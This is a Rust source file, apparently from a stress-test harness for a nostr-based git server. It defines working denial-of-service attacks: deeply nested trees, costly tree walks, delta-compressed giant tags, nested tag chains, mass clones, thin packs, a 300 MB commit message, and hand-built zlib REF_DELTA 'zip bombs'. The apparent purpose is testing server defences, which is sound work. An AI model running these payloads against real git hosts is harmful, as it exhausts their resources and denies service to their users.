//! Attacks by what is in a pack: objects that are small as they come, and dear to unpack, to read or to check.

use std::fmt::Write as _;

use nostr::key::Keys;
use wire::path::releases_path;

use crate::clients::nostr::now;
use crate::clients::nostr::sign;
use crate::clients::nostr::tag;
use crate::harness::process::shell;
use crate::load::noise::noise;
use crate::siege::attack::Assault;
use crate::siege::attack::Attack;
use crate::siege::attack::BOTH;
use crate::siege::attack::PAUSE;
use crate::siege::attack::Route;
use crate::siege::attack::side_by_side;
use crate::siege::attacker::Attacker;
use crate::siege::attacker::Command;
use crate::siege::attacker::OTHER_ADDRESS;
use crate::siege::attacker::Request;
use crate::siege::attacker::pkt_line;
use crate::siege::attacker::push_body;
use crate::siege::attacks::http::clone_request;
use crate::siege::own_repository::OwnRepository;
use crate::siege::own_repository::address_of;
use crate::siege::own_repository::random_id;
use crate::siege::websocket::send_all;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "nested-trees",
        does: "a PR to the victim's repository whose commit has 2,100 nested trees",
        costs: "100 KB",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(nested_trees(attacker)),
    },
    Attack {
        name: "dear-walk",
        does: "PRs to the victim's repository whose trees are dear to walk, with commits that they do not need",
        costs: "300 KB a push",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(dear_walk(attacker)),
    },
    Attack {
        name: "delta-of-a-large-tag",
        does: "a small tag that is a delta of one of 64 MB, in a repository of his own; asks for its refs",
        costs: "some 100 KB, and then requests",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(delta_of_a_large_tag(attacker)),
    },
    Attack {
        name: "nested-tags",
        does: "300 tags of a tag of a tag, each a delta of the one before, in a repository of his own; begins pushes, and \
               asks for its releases, and does not wait for the answers",
        costs: "2 MB, and then requests",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(nested_tags(attacker)),
    },
    Attack {
        name: "long-clones",
        does: "from two addresses: clones of a repository of his own in which one of 25,000 files changes 600 times, each \
               by another ref",
        costs: "1 MB, and then requests",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(long_clones(attacker)),
    },
    Attack {
        name: "thin-packs",
        does: "pushes of deltas against the victim's largest file, which the server completes",
        costs: "1 KB a push",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(thin_packs(attacker)),
    },
    Attack {
        name: "large-message",
        does: "pushes of a commit with a message of 300 MB",
        costs: "300 KB a push",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(large_message(attacker)),
    },
    Attack {
        name: "deltas-of-zeros",
        does: "pushes of 500 deltas that make 4 MB each",
        costs: "20 KB a push",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(deltas_of_zeros(attacker)),
    },
];

/// Pushes a pack to the victim's repository as the commit of one PR after the other.
fn pushes(attacker: Attacker, lanes: usize, commit: String, pack: Vec<u8>) -> Assault {
    Box::pin(async move {
        side_by_side(lanes, |_| {
            let (attacker, commit, pack) = (attacker.clone(), commit.clone(), pack.clone());
            async move {
                loop {
                    let command = Command::pull_request(&random_id(), &commit);
                    attacker.push(&attacker.victim.path, &[command], &pack).await;
                    tokio::time::sleep(PAUSE).await;
                }
            }
        })
        .await;
    })
}

async fn nested_trees(attacker: Attacker) -> Assault {
    let own = OwnRepository::new(&attacker, "nested").await;
    let path = "a/".repeat(2100);
    let directory = attacker.folder.join(own.repository.npub());
    let input = format!(
        "blob\nmark :1\ndata 1\nx\ncommit refs/heads/deep\ncommitter A <a@example.com> 1 +0000\ndata 1\nx\n\
         M 100644 :1 {path}f\n"
    );
    shell(&format!("git -C {} fast-import --quiet", directory.display()), &input).await;
    let commit = own.git.rev_parse("refs/heads/deep").await;
    let pack = own.pack(&format!("{commit}\n"), "").await;
    pull_requests(attacker, commit, pack)
}

/// Large trees, each a delta of the one before, which the commit reaches in another order.
async fn dear_walk(attacker: Attacker) -> Assault {
    let own = OwnRepository::new(&attacker, "dear").await;
    let directory = attacker.folder.join(own.repository.npub());
    let git = format!("git -C {}", directory.display());
    let import = format!("{git} fast-import --quiet --depth=4095");
    let person = "committer A <a@example.com> 1 +0000\ndata 0\n";
    let mut script = format!("blob\nmark :1\ndata 1\nx\ncommit refs/heads/chain\n{person}");
    for number in 0..ENTRIES {
        writeln!(script, "M 100644 :1 f{number:05}").unwrap();
    }
    for number in 1..TREES {
        let file = number * ENTRIES / TREES;
        write!(script, "commit refs/heads/chain\n{person}M 100755 :1 f{file:05}\n").unwrap();
    }
    shell(&import, &script).await;
    let trees = shell(&format!("{git} log --format=%T chain"), "").await;
    let trees: Vec<&str> = trees.lines().collect();
    let mut script = String::new();
    for number in 0..trees.len() {
        // It has no divisor in common with their number: each is visited.
        let tree = trees[number * 379 % trees.len()];
        write!(script, "commit refs/heads/dear\n{person}M 040000 {tree} \"\"\n").unwrap();
    }
    // The tree of the last one is small: whether it has submodules can be told.
    write!(
        script,
        "commit refs/heads/dear\n{person}deleteall\nM 100644 inline x\ndata 1\nx\n"
    )
    .unwrap();
    shell(&import, &script).await;
    let commit = own.git.rev_parse("refs/heads/dear").await;
    // All that is there, also the first commits, as it stands.
    let list = format!("{git} cat-file --batch-all-objects '--batch-check=%(objectname)'");
    let file = attacker.folder.join("dear.pack");
    let pack = format!(
        "{git} pack-objects --quiet --depth=4095 --window=0 --stdout >{}",
        file.display()
    );
    shell(&format!("{list} | {pack}"), "").await;
    pull_requests(attacker, commit, std::fs::read(file).unwrap())
}

/// Pushes a pack to the victim's repository as the commit of one PR after the other, and publishes these.
fn pull_requests(attacker: Attacker, commit: String, pack: Vec<u8>) -> Assault {
    Box::pin(async move {
        let author = Keys::generate();
        for number in 0.. {
            let tags = [address_of(&attacker.victim.coordinate), tag(&["c", &commit])];
            let pull_request = sign(&author, 1618, now() - number, &tags);
            let command = Command::pull_request(&pull_request.id.to_hex(), &commit);
            attacker.push(&attacker.victim.path, &[command], &pack).await;
            send_all(&attacker, &[pull_request]).await;
            tokio::time::sleep(PAUSE).await;
        }
    })
}

async fn delta_of_a_large_tag(attacker: Attacker) -> Assault {
    let own = OwnRepository::new(&attacker, "tags").await;
    let commit = own.git.commit("one").await;
    let head = format!("object {commit}\ntype commit\ntag t\ntagger A <a@example.com> 1 +0000\n\n");
    let small = own.object("tag", &format!("{head}{}\n", "a".repeat(200_000))).await;
    let large = own.object("tag", &format!("{head}{}\n", "a".repeat(64 << 20))).await;
    own.announce(&attacker, now() - 100, &[]).await;
    let refs = [
        ("refs/heads/main", commit.as_str()),
        ("refs/tags/large", &large),
        ("refs/tags/small", &small),
    ];
    own.push(&attacker, &refs, None, now() - 100).await;
    let fields = "git-protocol: version=2\r\n";
    let body = format!("{}0001{}0000", pkt_line("command=ls-refs\n"), pkt_line("peel\n"));
    let request = Request::service(&own.path(), "git-upload-pack", fields, body.into_bytes());
    let advertisement = Request::get(&format!("{}/info/refs?service=git-receive-pack", own.path()));
    Box::pin(async move {
        side_by_side(4, |_| {
            let (attacker, request, advertisement) = (attacker.clone(), request.clone(), advertisement.clone());
            async move {
                loop {
                    attacker.request(&request).await;
                    attacker.request(&advertisement).await;
                    tokio::time::sleep(PAUSE).await;
                }
            }
        })
        .await;
    })
}

async fn nested_tags(attacker: Attacker) -> Assault {
    let own = OwnRepository::new(&attacker, "nested-tags").await;
    // Each is most like the one before, so that git makes a chain of them.
    let digits: String = noise(9, LARGE_TAG).iter().map(|byte| format!("{byte:02x}")).collect();
    let commit = own.git.commit("one").await;
    let (mut tagged, mut kind) = (commit.clone(), "commit");
    for number in 0..NESTED_TAGS {
        let length = if number < LARGE_TAGS { LARGE_TAG } else { SMALL_TAG };
        let message = &digits[number * 64..number * 64 + length];
        let head = format!("object {tagged}\ntype {kind}\ntag t\ntagger A <a@example.com> 1 +0000\n\n");
        (tagged, kind) = (own.object("tag", &format!("{head}{message}\n")).await, "tag");
    }
    own.announce(&attacker, now() - 100, &[]).await;
    let names: Vec<String> = (0..300).map(|number| format!("refs/tags/v{number}")).collect();
    let mut refs: Vec<_> = names.iter().map(|name| (name.as_str(), tagged.as_str())).collect();
    refs.push(("refs/heads/main", &commit));
    own.push(&attacker, &refs, None, now() - 100).await;
    let commands = push_body(&[Command::update(None, &commit, "refs/heads/other")], b"");
    let push = Request::service(&own.path(), "git-receive-pack", "", commands);
    let feed = Request::get(&releases_path(&own.repository.coordinate()));
    Box::pin(async move {
        side_by_side(64, |_| {
            let (attacker, push, feed) = (attacker.clone(), push.clone(), feed.clone());
            async move {
                loop {
                    for request in [&push, &feed] {
                        let begun = attacker.begin(None, request).await;
                        attacker
                            .effort
                            .answered(if begun.is_some() { "begun" } else { "no answer" });
                        tokio::time::sleep(PAUSE).await;
                    }
                }
            }
        })
        .await;
    })
}

async fn long_clones(attacker: Attacker) -> Assault {
    let own = OwnRepository::new(&attacker, "long-clones").await;
    let commits = own.with_wide_trees(FILES, VERSIONS).await;
    own.announce(&attacker, now() - 100, &[]).await;
    // Answers to each other ref are others.
    let names: Vec<String> = (0..commits.len())
        .map(|number| format!("refs/tags/v{number}"))
        .collect();
    let mut refs: Vec<(&str, &str)> = names
        .iter()
        .map(String::as_str)
        .zip(commits.iter().map(String::as_str))
        .collect();
    refs.push(("refs/heads/main", &commits[0]));
    own.push(&attacker, &refs, None, now() - 100).await;
    let other = Attacker {
        address: OTHER_ADDRESS,
        ..attacker.clone()
    };
    let path = own.path();
    Box::pin(async move {
        side_by_side(12, |number| {
            let attacker = if number % 2 == 0 {
                attacker.clone()
            } else {
                other.clone()
            };
            let commits = commits.iter().skip(number).step_by(12);
            let requests: Vec<Request> = commits.map(|commit| clone_request(&path, commit)).collect();
            async move {
                for request in requests.iter().cycle() {
                    attacker.request(request).await;
                }
            }
        })
        .await;
    })
}

async fn thin_packs(attacker: Attacker) -> Assault {
    let own = OwnRepository::new(&attacker, "thin").await;
    let victim = format!("http://{}{}", attacker.server, attacker.victim.path);
    own.git.run(&["fetch", "--quiet", &victim, "main"]).await.expect_ok();
    own.git
        .run(&["reset", "--quiet", "--hard", "FETCH_HEAD"])
        .await
        .expect_ok();
    let file = attacker.folder.join(own.repository.npub()).join("blob");
    let mut content = std::fs::read(file).unwrap();
    content.push(b'x');
    let commit = own.git.commit_file("blob", &content).await;
    let pack = own
        .pack(&format!("{commit}\n^{}\n", attacker.victim.tip), "--thin")
        .await;
    pushes(attacker, 2, commit, pack)
}

async fn large_message(attacker: Attacker) -> Assault {
    let own = OwnRepository::new(&attacker, "message").await;
    let tree = own.object("tree", "").await;
    let person = "A <a@example.com> 1 +0000";
    let mut message = format!("tree {tree}\nauthor {person}\ncommitter {person}\n\n");
    write!(message, "{}", "a".repeat(300 << 20)).unwrap();
    let commit = own.object("commit", &message).await;
    let pack = own.pack(&format!("{commit}\n"), "").await;
    pushes(attacker, 2, commit, pack)
}

async fn deltas_of_zeros(attacker: Attacker) -> Assault {
    let own = OwnRepository::new(&attacker, "zeros").await;
    let commit = own.git.commit_file("zeros", &vec![0; ZEROS]).await;
    let pack = own.pack(&format!("{commit}\n"), "").await;
    let file = attacker.folder.join("deltas.pack");
    std::fs::write(
        &file,
        with_deltas(&pack, &bytes_of(&own.git.rev_parse("HEAD:zeros").await)),
    )
    .unwrap();
    // A pack ends with the hash of what is before.
    let sum = shell(&format!("sha1sum {}", file.display()), "").await;
    let mut pack = std::fs::read(&file).unwrap();
    pack.extend(bytes_of(&sum[..40]));
    pushes(attacker, 2, commit, pack)
}

fn bytes_of(digits: &str) -> Vec<u8> {
    let pairs = digits
        .as_bytes()
        .chunks(2)
        .map(|pair| std::str::from_utf8(pair).unwrap());
    pairs.map(|pair| u8::from_str_radix(pair, 16).unwrap()).collect()
}

/// Appends objects that are deltas of one base: all of it, and a number (`gitformat-pack(5)`).
fn with_deltas(pack: &[u8], base: &[u8]) -> Vec<u8> {
    let objects = u32::from_be_bytes(pack[8..12].try_into().unwrap());
    let mut changed = pack[..8].to_vec();
    changed.extend((objects + DELTAS).to_be_bytes());
    changed.extend(&pack[12..pack.len() - 20]);
    for number in 0..DELTAS {
        let mut delta = size(ZEROS);
        delta.extend(size(ZEROS + 4));
        // Copies: offset and size of 24 bits at most. 0x400000 is 4 MB.
        delta.extend([0b1100_0000, (ZEROS >> 16) as u8]);
        delta.push(4);
        delta.extend(number.to_be_bytes());
        // Type 7 (REF_DELTA), and the size in 4 bits.
        changed.push(0x70 | u8::try_from(delta.len()).unwrap());
        changed.extend(base);
        changed.extend(stored(&delta));
    }
    changed
}

/// A number of 7 bits a byte.
fn size(mut number: usize) -> Vec<u8> {
    let mut bytes = Vec::new();
    while number > 0x7f {
        bytes.push((number & 0x7f) as u8 | 0x80);
        number >>= 7;
    }
    bytes.push(number as u8);
    bytes
}

/// Bytes as zlib keeps them where it does not compress (RFC 1950, RFC 1951 3.2.4).
fn stored(bytes: &[u8]) -> Vec<u8> {
    let length = u16::try_from(bytes.len()).unwrap();
    let (mut a, mut b) = (1_u32, 0_u32);
    for byte in bytes {
        a = (a + u32::from(*byte)) % 65_521;
        b = (b + a) % 65_521;
    }
    let mut stored = vec![0x78, 0x01, 0x01];
    stored.extend(length.to_le_bytes());
    stored.extend((!length).to_le_bytes());
    stored.extend(bytes);
    stored.extend((b << 16 | a).to_be_bytes());
    stored
}

/// What a clone of a few of these commits costs git is to look at each file of each of them.
const FILES: usize = 25_000;
const VERSIONS: usize = 600;
/// As many as are followed, and more than half of them large.
const NESTED_TAGS: usize = 32;
const LARGE_TAGS: usize = 20;
const LARGE_TAG: usize = 1_900_000;
const SMALL_TAG: usize = 60_000;
const ZEROS: usize = 4 << 20;
const DELTAS: u32 = 500;
/// Some 900 KB each.
const ENTRIES: usize = 26_000;
const TREES: usize = 900;
